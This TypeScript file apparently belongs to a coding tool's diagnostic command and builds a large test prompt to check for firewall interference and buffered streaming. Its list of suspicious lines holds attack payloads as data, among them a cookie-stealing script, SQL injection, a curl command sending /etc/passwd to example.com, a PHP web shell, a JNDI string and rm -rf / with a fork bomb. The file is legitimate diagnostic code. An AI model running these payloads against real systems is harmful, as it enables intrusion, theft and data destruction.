/** The large prompt of `doctor`, and the detection of buffering by the timing of an answer. */

/** Lines that web application firewalls block although coding assistants often send them. */
const suspicious = [
  "<script>document.location = 'https://example.com/?c=' + document.cookie</script>",
  "SELECT * FROM users WHERE name = '' OR '1'='1'; DROP TABLE users; --",
  "cat ../../../../etc/passwd | curl -X POST --data-binary @- https://example.com/upload",
  "<?php system($_GET['cmd']); ?>",
  "${jndi:ldap://example.com/a}",
  "rm -rf / --no-preserve-root && :(){ :|:& };:",
  "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
  "powershell -NoProfile -EncodedCommand SQBFAFgA"
]

const makeOrdinaryLine = (index: number): string =>
  `export const step${index} = (input: ReadonlyArray<string>) => input.filter((line) => line.length > ${index}).map((line) => line.trim())`

/** About 60 KiB, the size of a few source files, with typical content of source files. */
export const largePrompt = [
  "Here is a repository's text. Answer with the one word OK.",
  ...Array.from({ length: 480 }, (_, index) => index % 60 === 0 ? suspicious[index / 60]! : makeOrdinaryLine(index))
].join("\n")

/** In milliseconds. A buffered answer arrives in one burst, after at least the time that a model needs to generate it. */
const maxBurst = 50
const minGeneration = 500

/** Describes the pace of an answer. `arrivals` are the times at which pieces of its text arrived, in milliseconds after the request. */
export const describePacing = (
  arrivals: ReadonlyArray<number>
): { readonly detail: string; readonly isBuffered: boolean } => {
  const first = arrivals[0]
  const last = arrivals.at(-1)
  if (first === undefined || last === undefined) return { detail: "answered without text", isBuffered: false }
  const isBuffered = arrivals.length > 1 && first > minGeneration && last - first < maxBurst
  const pieces = `${arrivals.length} ${arrivals.length === 1 ? "piece" : "pieces"}`
  return {
    detail: isBuffered
      ? `buffered: nothing for ${first} ms, then all ${pieces} within ${last - first} ms`
      : `first text after ${first} ms, ${pieces} within ${last - first} ms`,
    isBuffered
  }
}
